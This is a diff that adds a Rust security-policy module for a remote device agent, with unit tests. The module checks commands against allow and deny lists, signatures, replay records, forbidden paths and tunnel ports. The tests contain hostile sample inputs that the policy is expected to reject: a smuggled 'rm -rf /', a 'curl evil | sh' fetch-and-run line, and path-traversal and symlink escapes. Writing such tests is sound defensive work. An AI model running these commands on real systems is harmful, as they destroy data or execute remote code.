@@ -0,0 +1,512 @@
+//! The `[policy]` of magic.toml, checked on the device before any command
+//! from the API runs, whoever could reach the API.
+
+pub mod audit;
+pub mod replay;
+pub mod signature;
+
+use crate::commander::registry::PLUGINS_DIR;
+use crate::magic::structure::ConfigPolicy;
+use crate::utils::schema::{SafeCommandRequest, SafeCommandTx};
+use chrono::{DateTime, Utc};
+use regex::Regex;
+use std::path::{Component, Path, PathBuf};
+
+/// What `OpenTunnel` forwards when it names no port.
+const DEFAULT_TUNNEL_PORT: u16 = 22;
+
+pub struct Policy {
+    config: ConfigPolicy,
+    free_form: Option<Vec<Regex>>,
+    /// Directory of magic.toml and its drop-ins, and the plugins directory.
+    /// A command writing there could lift the policy or run anything.
+    protected: Vec<PathBuf>,
+}
+
+impl Policy {
+    pub fn new(config: ConfigPolicy, magic: Option<&Path>) -> Self {
+        // magic.toml is validated when loaded, a pattern that still doesn't
+        // compile matches nothing
+        let free_form = config.free_form.as_ref().map(|patterns| {
+            patterns
+                .iter()
+                .filter_map(|pattern| Regex::new(&format!("^(?:{pattern})$")).ok())
+                .collect()
+        });
+        let protected = magic
+            .and_then(|magic| std::fs::canonicalize(magic).ok())
+            .and_then(|magic| magic.parent().map(Path::to_path_buf))
+            .into_iter()
+            .chain([PathBuf::from(PLUGINS_DIR)])
+            .collect();
+
+        Self {
+            config,
+            free_form,
+            protected,
+        }
+    }
+
+    /// Why the command can't run, if it can't.
+    pub fn check(
+        &self,
+        request: &SafeCommandRequest,
+        serial_number: &str,
+        now: DateTime<Utc>,
+    ) -> Result<(), String> {
+        let command = &request.command;
+        let variant = command.name();
+        let listed = |names: &Vec<String>| names.iter().any(|name| name == variant);
+        if listed(&self.config.deny)
+            || self
+                .config
+                .allow
+                .as_ref()
+                .is_some_and(|allow| !listed(allow))
+        {
+            return Err(format!("{variant} is not allowed"));
+        }
+
+        if self.config.require_signature {
+            let signature = request
+                .signature
+                .as_ref()
+                .ok_or_else(|| "the command is not signed".to_string())?;
+            signature::verify(
+                signature,
+                &self.config.admin_keys,
+                serial_number,
+                command,
+                now,
+            )?;
+        }
+
+        match command {
+            SafeCommandTx::FreeForm { cmd } => self.check_free_form(cmd)?,
+            // checks and metrics run through sh as root just the same
+            SafeCommandTx::UpdateAgentConfig { config, .. } if self.free_form.is_some() => {
+                for cmd in agent_config_commands(config)? {
+                    self.check_free_form(&cmd)?;
+                }
+            }
+            SafeCommandTx::UpdateConfigFiles { files } => {
+                for file in files {
+                    self.check_path(Path::new(&file.path))?;
+                }
+            }
+            SafeCommandTx::OpenTunnel { port, .. } => {
+                let port = port.unwrap_or(DEFAULT_TUNNEL_PORT);
+                if self
+                    .config
+                    .tunnel_ports
+                    .as_ref()
+                    .is_some_and(|ports| !ports.contains(&port))
+                {
+                    return Err(format!("tunnels to port {port} are not allowed"));
+                }
+            }
+            _ => {}
+        }
+
+        Ok(())
+    }
+
+    fn check_free_form(&self, cmd: &str) -> Result<(), String> {
+        match &self.free_form {
+            Some(patterns) if !patterns.iter().any(|pattern| pattern.is_match(cmd)) => {
+                Err(format!("{cmd:?} matches none of policy.free_form"))
+            }
+            _ => Ok(()),
+        }
+    }
+
+    fn check_path(&self, path: &Path) -> Result<(), String> {
+        // paths are compared as written, so they can't be allowed to walk
+        // out of the directory they name
+        if !path.is_absolute()
+            || path
+                .components()
+                .any(|component| component == Component::ParentDir)
+        {
+            return Err(format!("{} is not a plain absolute path", path.display()));
+        }
+
+        // a link to a forbidden directory would get around them otherwise,
+        // and they may be links themselves
+        let resolved = resolve(path);
+        if let Some(forbidden) = self
+            .config
+            .forbidden_paths
+            .iter()
+            .chain(&self.protected)
+            .find(|forbidden| {
+                let canonical = resolve(forbidden);
+                [path, resolved.as_path()]
+                    .iter()
+                    .any(|path| path.starts_with(forbidden) || path.starts_with(&canonical))
+            })
+        {
+            return Err(format!(
+                "{} is under forbidden path {}",
+                path.display(),
+                forbidden.display()
+            ));
+        }
+
+        Ok(())
+    }
+
+    /// Records the nonce of the signature once the command passed
+    /// [`check`](Self::check), a signed command runs only once.
+    pub async fn claim(
+        &self,
+        request: &SafeCommandRequest,
+        now: DateTime<Utc>,
+    ) -> Result<(), String> {
+        if !self.config.require_signature {
+            return Ok(());
+        }
+        let signature = request
+            .signature
+            .as_ref()
+            .ok_or_else(|| "the command is not signed".to_string())?;
+        replay::claim(&self.config.used_signatures, signature, now).await
+    }
+
+    /// Appends the decision to the audit log. The command must not run when
+    /// this fails.
+    pub async fn audit(
+        &self,
+        request: &SafeCommandRequest,
+        decision: &Result<(), String>,
+    ) -> anyhow::Result<()> {
+        let signed_by = request
+            .signature
+            .as_ref()
+            .filter(|_| self.config.require_signature && decision.is_ok())
+            .map(|signature| signature.key.as_str());
+        let entry = audit::Entry {
+            timestamp: Utc::now(),
+            id: request.id,
+            command: request.command.name(),
+            detail: detail(&request.command),
+            allowed: decision.is_ok(),
+            reason: decision.as_ref().err().map(String::as_str),
+            signed_by,
+        };
+
+        audit::append(&self.config.audit_log, &entry).await
+    }
+}
+
+/// The `cmd` of every `[[check]]` and `[[metric]]` of an agent configuration.
+fn agent_config_commands(config: &str) -> Result<Vec<String>, String> {
+    let config: toml::Table = toml::from_str(config)
+        .map_err(|err| format!("the agent configuration doesn't parse: {err}"))?;
+
+    let mut commands = vec![];
+    for section in ["check", "metric"] {
+        let entries = config
+            .get(section)
+            .and_then(toml::Value::as_array)
+            .map_or(&[][..], Vec::as_slice);
+        for entry in entries {
+            match entry.get("cmd") {
+                Some(toml::Value::String(cmd)) => commands.push(cmd.clone()),
+                Some(_) => return Err(format!("a {section} has a cmd that isn't a string")),
+                None => {}
+            }
+        }
+    }
+
+    Ok(commands)
+}
+
+/// The path with the symlinks of its deepest existing ancestor resolved, what
+/// doesn't exist yet is appended as written.
+fn resolve(path: &Path) -> PathBuf {
+    let mut existing = path;
+    let mut missing = vec![];
+    loop {
+        if let Ok(canonical) = std::fs::canonicalize(existing) {
+            return missing
+                .iter()
+                .rev()
+                .fold(canonical, |path, name| path.join(name));
+        }
+        match (existing.parent(), existing.file_name()) {
+            (Some(parent), Some(name)) => {
+                missing.push(name);
+                existing = parent;
+            }
+            _ => return path.to_path_buf(),
+        }
+    }
+}
+
+fn detail(command: &SafeCommandTx) -> Option<String> {
+    match command {
+        SafeCommandTx::FreeForm { cmd } => Some(cmd.clone()),
+        SafeCommandTx::UpdateConfigFiles { files } => Some(
+            files
+                .iter()
+                .map(|file| file.path.as_str())
+                .collect::<Vec<_>>()
+                .join(", "),
+        ),
+        SafeCommandTx::OpenTunnel { port, .. } => {
+            Some(port.unwrap_or(DEFAULT_TUNNEL_PORT).to_string())
+        }
+        SafeCommandTx::Plugin { name, .. } => Some(name.clone()),
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::utils::schema::ConfigFile;
+    use chrono::Duration;
+
+    fn request(command: SafeCommandTx) -> SafeCommandRequest {
+        SafeCommandRequest {
+            id: 1,
+            command,
+            ..Default::default()
+        }
+    }
+
+    fn free_form(cmd: &str) -> SafeCommandRequest {
+        request(SafeCommandTx::FreeForm {
+            cmd: cmd.to_string(),
+        })
+    }
+
+    #[test]
+    fn restricts_commands() {
+        let dir = tempfile::tempdir().unwrap();
+        let magic = dir.path().join("magic.toml");
+        std::fs::write(&magic, "").unwrap();
+        let secrets = dir.path().join("secrets");
+        std::fs::create_dir(&secrets).unwrap();
+        std::os::unix::fs::symlink(&secrets, dir.path().join("link")).unwrap();
+
+        let policy = Policy::new(
+            ConfigPolicy {
+                deny: vec!["OpenShell".to_string()],
+                free_form: Some(vec![r"systemctl status \w+".to_string()]),
+                forbidden_paths: vec![PathBuf::from("/etc/ssh"), secrets],
+                tunnel_ports: Some(vec![8080]),
+                ..Default::default()
+            },
+            Some(&magic),
+        );
+        let check = |request: &SafeCommandRequest| policy.check(request, "1234", Utc::now());
+
+        assert!(check(&request(SafeCommandTx::Ping)).is_ok());
+        assert!(
+            check(&request(SafeCommandTx::OpenShell {
+                session: "s".to_string(),
+                cols: 80,
+                rows: 24,
+            }))
+            .is_err()
+        );
+
+        assert!(check(&free_form("systemctl status smithd")).is_ok());
+        assert!(check(&free_form("systemctl status smithd; rm -rf /")).is_err());
+
+        let config = |path: &str| {
+            request(SafeCommandTx::UpdateConfigFiles {
+                files: vec![ConfigFile {
+                    path: path.to_string(),
+                    ..Default::default()
+                }],
+            })
+        };
+        assert!(check(&config("/etc/app.conf")).is_ok());
+        assert!(check(&config("/etc/ssh/sshd_config")).is_err());
+        assert!(check(&config("/etc/app/../ssh/sshd_config")).is_err());
+        assert!(check(&config("etc/app.conf")).is_err());
+        let drop_in = dir.path().canonicalize().unwrap().join("magic.d/99.toml");
+        assert!(check(&config(drop_in.to_str().unwrap())).is_err());
+        let linked = dir.path().join("link/new/key.pem");
+        assert!(check(&config(linked.to_str().unwrap())).is_err());
+        assert!(check(&config("/etc/smith/commands.d/run-anything")).is_err());
+
+        let agent_config = |config: &str| {
+            request(SafeCommandTx::UpdateAgentConfig {
+                version: "1".to_string(),
+                config: config.to_string(),
+            })
+        };
+        assert!(
+            check(&agent_config(
+                "[[check]]\nname = \"smithd\"\ncmd = \"systemctl status smithd\"\n"
+            ))
+            .is_ok()
+        );
+        assert!(
+            check(&agent_config(
+                "[[metric]]\nname = \"x\"\nlog_only = true\ncmd = \"curl evil | sh\"\n"
+            ))
+            .is_err()
+        );
+        assert!(check(&agent_config("[logs]\nenabled = true\n")).is_ok());
+
+        let tunnel = |port| {
+            request(SafeCommandTx::OpenTunnel {
+                port,
+                ttl: None,
+                requested_by: None,
+            })
+        };
+        assert!(check(&tunnel(Some(8080))).is_ok());
+        assert!(check(&tunnel(None)).is_err());
+
+        let allow_list = Policy::new(
+            ConfigPolicy {
+                allow: Some(vec!["Ping".to_string()]),
+                ..Default::default()
+            },
+            None,
+        );
+        assert!(
+            allow_list
+                .check(&request(SafeCommandTx::Ping), "1234", Utc::now())
+                .is_ok()
+        );
+        assert!(
+            allow_list
+                .check(&request(SafeCommandTx::Upgrade), "1234", Utc::now())
+                .is_err()
+        );
+    }
+
+    #[test]
+    fn requires_signatures() {
+        let admin = signature::key_pair(&signature::generate().unwrap()).unwrap();
+        let other = signature::key_pair(&signature::generate().unwrap()).unwrap();
+        let policy = Policy::new(
+            ConfigPolicy {
+                require_signature: true,
+                admin_keys: vec![signature::public_key(&admin)],
+                ..Default::default()
+            },
+            None,
+        );
+        let now = Utc::now();
+        let signed = |key_pair, serial_number, expires_at| {
+            let mut request = free_form("reboot");
+            request.signature = Some(
+                signature::sign(key_pair, serial_number, expires_at, &request.command).unwrap(),
+            );
+            request
+        };
+
+        assert!(policy.check(&free_form("reboot"), "1234", now).is_err());
+        assert!(
+            policy
+                .check(
+                    &signed(&admin, "1234", now + Duration::hours(1)),
+                    "1234",
+                    now
+                )
+                .is_ok()
+        );
+        assert!(
+            policy
+                .check(
+                    &signed(&admin, "5678", now + Duration::hours(1)),
+                    "1234",
+                    now
+                )
+                .is_err()
+        );
+        assert!(
+            policy
+                .check(
+                    &signed(&admin, "1234", now - Duration::hours(1)),
+                    "1234",
+                    now
+                )
+                .is_err()
+        );
+        assert!(
+            policy
+                .check(
+                    &signed(&other, "1234", now + Duration::hours(1)),
+                    "1234",
+                    now
+                )
+                .is_err()
+        );
+
+        let mut tampered = signed(&admin, "1234", now + Duration::hours(1));
+        tampered.command = SafeCommandTx::FreeForm {
+            cmd: "rm -rf /".to_string(),
+        };
+        assert!(policy.check(&tampered, "1234", now).is_err());
+    }
+
+    #[tokio::test]
+    async fn runs_signed_commands_once() {
+        let dir = tempfile::tempdir().unwrap();
+        let admin = signature::key_pair(&signature::generate().unwrap()).unwrap();
+        let policy = Policy::new(
+            ConfigPolicy {
+                require_signature: true,
+                admin_keys: vec![signature::public_key(&admin)],
+                used_signatures: dir.path().join("used_signatures.json"),
+                ..Default::default()
+            },
+            None,
+        );
+        let now = Utc::now();
+        let mut request = free_form("reboot");
+        request.signature = Some(
+            signature::sign(&admin, "1234", now + Duration::hours(1), &request.command).unwrap(),
+        );
+
+        assert!(policy.check(&request, "1234", now).is_ok());
+        assert!(policy.claim(&request, now).await.is_ok());
+        assert!(policy.check(&request, "1234", now).is_ok());
+        assert!(policy.claim(&request, now).await.is_err());
+
+        // signed again, with a nonce of its own
+        request.signature = Some(
+            signature::sign(&admin, "1234", now + Duration::hours(1), &request.command).unwrap(),
+        );
+        assert!(policy.claim(&request, now).await.is_ok());
+    }
+
+    #[tokio::test]
+    async fn audits_every_decision() {
+        let dir = tempfile::tempdir().unwrap();
+        let audit_log = dir.path().join("log/audit.log");
+        let policy = Policy::new(
+            ConfigPolicy {
+                deny: vec!["FreeForm".to_string()],
+                audit_log: audit_log.clone(),
+                ..Default::default()
+            },
+            None,
+        );
+
+        for request in [request(SafeCommandTx::Ping), free_form("reboot")] {
+            let decision = policy.check(&request, "1234", Utc::now());
+            policy.audit(&request, &decision).await.unwrap();
+        }
+
+        let log = std::fs::read_to_string(&audit_log).unwrap();
+        let entries: Vec<serde_json::Value> = log
+            .lines()
+            .map(|line| serde_json::from_str(line).unwrap())
+            .collect();
+        assert_eq!(entries.len(), 2);
+        assert_eq!(entries[0]["command"], "Ping");
+        assert_eq!(entries[0]["allowed"], true);
+        assert_eq!(entries[1]["detail"], "reboot");
+        assert_eq!(entries[1]["reason"], "FreeForm is not allowed");
+    }
+}